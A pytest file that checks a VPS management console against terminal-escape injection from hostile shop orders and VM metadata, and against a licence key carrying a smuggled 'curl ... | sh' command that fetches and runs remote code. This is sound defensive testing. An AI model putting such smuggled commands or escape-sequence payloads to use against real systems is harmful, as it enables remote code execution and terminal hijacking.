"""What a hostile order does to the engineer's terminal: nothing. Orders carrying every class
of escape sequence (CSI, OSC 52, OSC 0, DCS, C1), bidi overrides and Rich markup are placed
at the shop front; the installed `vps-console` then runs on a real pty, and the raw bytes
it writes are searched for the planted sequences: CLI commands and every console screen."""

from __future__ import annotations

import fcntl
import os
import pty
import select
import struct
import subprocess
import termios
import time

import ovirtsdk4.types as types
import pytest
from click.testing import CliRunner

from console.cli import main
from console.sim.whmcs import WhmcsSimulator
from tests.commands.test_console_in_a_terminal import VPS_CONSOLE, user_env
from tests.plugins.cli import cli_setup
from tests.plugins.whmcs import FORBIDDEN_BYTES, hostile_text, shop_order

PRODUCTS = """
[[catalog.products]]
billing_product = "VPS Linux cPanel"
template = "alma9-cpanel"
license_kinds = ["cpanel"]

[[catalog.products]]
billing_product = "VPS Linux Plesk"
template = "ubuntu2204-plesk"
license_kinds = ["plesk"]
"""
VISIBLE_ESC = "␛".encode()


class Pty:
    """One process on a real pseudo-terminal, every byte it writes kept."""

    def __init__(self, argv: list[str], env: dict[str, str], rows: int = 36, cols: int = 120):
        master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))

        def controlling_tty() -> None:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        self.proc = subprocess.Popen(
            argv,
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=env,
            preexec_fn=controlling_tty,
            close_fds=True,
        )
        os.close(slave)
        self.master = master
        self.output = bytearray()

    def pump(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self.master], [], [], 0.05)
            if ready:
                try:
                    chunk = os.read(self.master, 65536)
                except OSError:  # the other side closed
                    return
                if not chunk:
                    return
                self.output += chunk

    def wait_for(self, needle: bytes, seconds: float = 60.0) -> None:
        deadline = time.monotonic() + seconds
        while needle not in self.output:
            assert time.monotonic() < deadline, (
                f"{needle!r} never came:\n{bytes(self.output[-3000:])!r}"
            )
            assert self.proc.poll() is None or needle in self.output, bytes(self.output[-3000:])
            self.pump(0.2)

    def send(self, keys: str, settle: float = 1.0) -> None:
        os.write(self.master, keys.encode())
        self.pump(settle)

    def finish(self, seconds: float = 30.0) -> int:
        deadline = time.monotonic() + seconds
        while self.proc.poll() is None and time.monotonic() < deadline:
            self.pump(0.2)
        self.pump(0.3)
        os.close(self.master)
        if self.proc.poll() is None:
            self.proc.kill()
        return self.proc.wait(timeout=10)


def assert_clean(output: bytes, where: str) -> None:
    for forbidden in FORBIDDEN_BYTES:
        assert forbidden not in output, f"{where}: {forbidden!r} reached the terminal"


@pytest.fixture
def hostile_shop():
    with WhmcsSimulator(seed=1, orders=0) as shop:
        ids = [
            shop_order(
                shop,
                firstname=hostile_text("First"),
                lastname=hostile_text("Last"),
                companyname=hostile_text("Co"),
                pid=1,
                hostname=f"srv{n}.example.net",
            )
            for n in range(2)
        ]
        ids.append(
            shop_order(
                shop,
                firstname="[/]oops",
                lastname="[bold red]x",
                companyname="[/]oops",
                pid=2,
                hostname=hostile_text("h"),
                customfields={201: hostile_text("wish")},
            )
        )
        yield shop, ids


@pytest.fixture
def console_env(tmp_path, engine_sim, sdk_connection, monkeypatch, hostile_shop):
    shop, ids = hostile_shop

    # The engine's side: a VM named like ours whose description and comment an engine user
    # filled with what the engine's XML can carry (C1 controls, bidi overrides, markup; XML
    # 1.0 has no ESC), shown on the VMs screen.
    def engine_plant(label: str) -> str:
        return "".join(c for c in hostile_text(label) if ord(c) >= 0x20)[:200]

    vms = sdk_connection.system_service().vms_service()
    vm = vms.list(search="name=vps-1000")[0]
    vms.vm_service(vm.id).update(
        types.Vm(description=engine_plant("vmdesc"), comment=engine_plant("vmcomment"))
    )
    config, store = cli_setup(tmp_path, engine_sim, monkeypatch, PRODUCTS, whmcs_sim=shop)
    store.close()
    env = {
        **user_env(tmp_path),
        "VPS_CONSOLE_CONFIG": str(config),
        "VPS_CONSOLE_ENGINE_PASSWORD": engine_sim.password,
        "VPS_CONSOLE_BILLING_SECRET": shop.secret,
        "VPS_CONSOLE_KEYRING_PASSPHRASE": "hostile terminal test passphrase",
    }
    return env, ids


@pytest.mark.slow
def test_cli_commands_write_no_planted_sequence_to_the_terminal(console_env):
    env, ids = console_env
    commands = [
        ["orders", "sync"],
        ["orders", "list"],
        ["orders", "list", "--all"],
        ["orders", "list", "--json"],
        ["audit"],
    ]
    commands += [["orders", "show", str(order_id)] for order_id in ids]
    commands += [["orders", "show", str(ids[0]), "--json"]]
    seen_visible = False
    for args in commands:
        term = Pty([str(VPS_CONSOLE), *args], env)
        code = term.finish()
        output = bytes(term.output)
        assert code == 0, (args, output[-2000:])
        assert_clean(output, " ".join(args))
        seen_visible |= VISIBLE_ESC in output
        if args[:2] == ["orders", "show"] and "--json" not in args:
            assert b"[/]oops" in output or b"First" in output, output
    assert seen_visible  # the sequences were shown, as text


@pytest.mark.slow
def test_the_console_renders_every_screen_without_a_planted_sequence_or_a_crash(console_env):
    env, ids = console_env
    sync = Pty([str(VPS_CONSOLE), "orders", "sync"], env)
    assert sync.finish() == 0, bytes(sync.output)
    term = Pty([str(VPS_CONSOLE), "run", "--no-mouse"], env)
    try:
        term.wait_for(b"billing ok")
        term.wait_for(VISIBLE_ESC)  # a hostile name is on screen, made visible
        for key in (
            "G",
            "g",
            "j",
            "2",
            "3",
            "g",
            "j",
            "4",
            "a",
            "a",
            "1",
            "/",
            "o",
            "o",
            "p",
            "s",
            "\r",
            "\x1b",
            "p",
        ):  # every screen, the filter, the last order's provision form
            term.send(key, settle=0.8)
        term.send("\x1b", settle=1.0)
        term.send("\x11", settle=0.5)  # ctrl+q
    finally:
        code = term.finish()
    output = bytes(term.output)
    assert_clean(output, "the console")
    assert b"Traceback" not in output and b"MarkupError" not in output, output[-3000:]
    assert code == 0, output[-3000:]


def test_credentials_set_license_refuses_a_key_that_is_not_one(tmp_path, keyring_passphrase):
    config = tmp_path / "config.toml"
    config.write_text(
        f'[[engines]]\nname = "prod"\nurl = "http://127.0.0.1:9/ovirt-engine/api"'
        f'\n\n[store]\nurl = "sqlite:///{tmp_path / "console.db"}"\n'
    )

    def credentials(*args, stdin=None):
        return CliRunner().invoke(
            main, ["--config", str(config), "credentials", *args], input=stdin
        )

    refused = credentials(
        "set",
        "license",
        "2001",
        "plesk",
        "--stdin",
        stdin="A00Q00-28H603-ABCDEF-GH1234-JKLMN0; curl -s http://x/y|sh\n",
    )
    assert refused.exit_code == 2, refused.output
    assert "license.plesk" in refused.output and "not a Plesk activation code" in refused.output
    assert credentials("show", "license", "2001", "plesk").exit_code == 1  # nothing stored
    kept = credentials(
        "set", "license", "2001", "plesk", "--stdin", stdin="a00q00 28h603 abcdef gh1234 jklmn0\n"
    )
    assert kept.exit_code == 0, kept.output
    shown = credentials("show", "license", "2001", "plesk", "--reveal")
    assert shown.output.strip() == "A00Q00-28H603-ABCDEF-GH1234-JKLMN0"  # canonical spelling
